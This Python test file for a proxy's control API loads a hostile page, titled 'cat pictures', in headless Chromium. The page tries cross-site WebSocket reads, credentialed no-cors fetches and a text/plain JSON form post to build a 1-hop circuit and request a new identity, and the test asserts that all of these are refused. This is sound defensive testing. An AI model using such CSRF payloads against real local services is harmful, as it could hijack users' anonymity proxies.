"""A hostile web page in a real headless Chromium against the control API (issue 15, item 2).

The user has opened the status page (so the browser holds a session cookie for 127.0.0.1); then a
page served from another port of 127.0.0.1 (the same *site*: SameSite cookies go along) tries to
read the event stream, to build a 1-hop circuit with `no-cors` fetches and a text/plain form
whose body is valid JSON, and to ask for a new identity. It must read nothing and change nothing.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

from aiohttp import web

from onionmesh.runtime.client.control import ControlServer
from tests.helpers.chromium import live_chromium, needs_chromium
from tests.helpers.mesh import Mesh, serve

ATTACK_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>cat pictures</title></head>
<body><p>nothing to see</p><script>
(async function () {
  var C = "http://127.0.0.1:__PORT__";
  var out = {ws_open: false, ws_messages: [], reads: {}};
  var wsDone = new Promise(function (resolve) {
    var ws = new WebSocket("ws://127.0.0.1:__PORT__/events");
    ws.onopen = function () { out.ws_open = true; };
    ws.onmessage = function (e) { out.ws_messages.push(String(e.data).slice(0, 4000)); };
    ws.onclose = function () { resolve(); };
    setTimeout(function () { try { ws.close(); } catch (e) {} resolve(); }, 4000);
  });
  async function attempt(name, url, opts) {
    try {
      var r = await fetch(url, opts);
      out.reads[name] = {type: r.type, status: r.status, body: await r.text()};
    } catch (e) {
      out.reads[name] = {error: String(e)};
    }
  }
  var form = new URLSearchParams();
  form.append('{"hops": 1, "pad": "', '"}');
  await attempt("build_text_plain", C + "/circuits", {method: "POST", mode: "no-cors",
    credentials: "include", headers: {"Content-Type": "text/plain"}, body: '{"hops": 1}'});
  await attempt("build_urlencoded", C + "/circuits", {method: "POST", mode: "no-cors",
    credentials: "include", body: form});
  await attempt("newnym", C + "/newnym", {method: "POST", mode: "no-cors", credentials: "include"});
  await attempt("read_cors", C + "/circuits", {credentials: "include"});
  await attempt("read_no_cors", C + "/circuits", {mode: "no-cors", credentials: "include"});
  await new Promise(function (resolve) {  // a real form post (text/plain) into a hidden frame
    var frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    var f = document.createElement("form");
    f.method = "POST"; f.action = C + "/circuits"; f.enctype = "text/plain"; f.target = "sink";
    var i = document.createElement("input");
    i.name = '{"hops": 1, "pad": "'; i.value = '"}';
    f.appendChild(i);
    document.body.appendChild(f);
    frame.onload = function () { resolve(); };
    setTimeout(resolve, 10000);
    f.submit();
  });
  await wsDone;
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
})();
</script></body></html>
"""


@needs_chromium
async def test_a_page_on_another_loopback_port_can_neither_read_nor_drive_the_control_api(
    page_mesh: tuple[Mesh, ControlServer], tmp_path: Path
) -> None:
    mesh, server = page_mesh  # the victim: a proxy whose status page the user has open
    report: asyncio.Future[dict] = asyncio.get_running_loop().create_future()

    async def page(_request: web.Request) -> web.Response:
        return web.Response(text=ATTACK_PAGE.replace("__PORT__", str(server.port)), content_type="text/html")

    async def got_report(request: web.Request) -> web.Response:
        if not report.done():
            report.set_result(json.loads(await request.text()))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_get("/", page)
    app.router.add_post("/report", got_report)
    runner, attacker = await serve(app)

    launched: list[tuple[int, int]] = []  # (circuit, hops) of every circuit begun during the attack
    mesh.client.circuits.listeners.append(
        lambda what, h: launched.append((h.number, len(h.path))) if what == "launched" else None
    )
    newnyms: list[int] = []
    retire_all = mesh.client.circuits.retire_all
    mesh.client.circuits.retire_all = lambda: (newnyms.append(1), retire_all())[1]  # type: ignore[method-assign]
    try:
        async with live_chromium(tmp_path / "profile", server.login_link()) as (cdp, session):
            # The user is logged in: the status page loaded and holds the session cookie.
            for _ in range(100):
                state = await cdp.call(
                    "Runtime.evaluate",
                    {"expression": "document.getElementById('live') ? location.pathname : ''",
                     "returnByValue": True},
                    session,
                )  # fmt: skip
                if state["result"].get("value") == "/status-page":
                    break
                await asyncio.sleep(0.1)
            assert state["result"].get("value") == "/status-page"
            refused_before = sum(getattr(server, "refused", {}).values())  # (no counter before the fix)
            await cdp.call("Page.navigate", {"url": f"http://127.0.0.1:{attacker}/"}, session)
            seen = await asyncio.wait_for(report, 60)
    finally:
        await runner.cleanup()

    # What the page could read: nothing, neither events nor circuits.
    assert seen["ws_messages"] == [], seen["ws_messages"][:2]
    assert seen["ws_open"] is False
    assert "error" in seen["reads"]["read_cors"]  # CORS: no Access-Control-Allow-Origin
    assert seen["reads"]["read_no_cors"]["body"] == ""  # opaque
    # What the proxy did: no circuit built for the page, no new identity.
    assert [c for c in launched if c[1] == 1] == [], launched
    assert newnyms == []
    # And why: the server turned each attempt away (WebSocket, 3 fetches, the form; the GETs).
    refusals = sum(server.refused.values()) - refused_before
    assert refusals >= 7, server.refused
    assert server.refused["origin"] + server.refused["fetch-site"] >= 7, server.refused
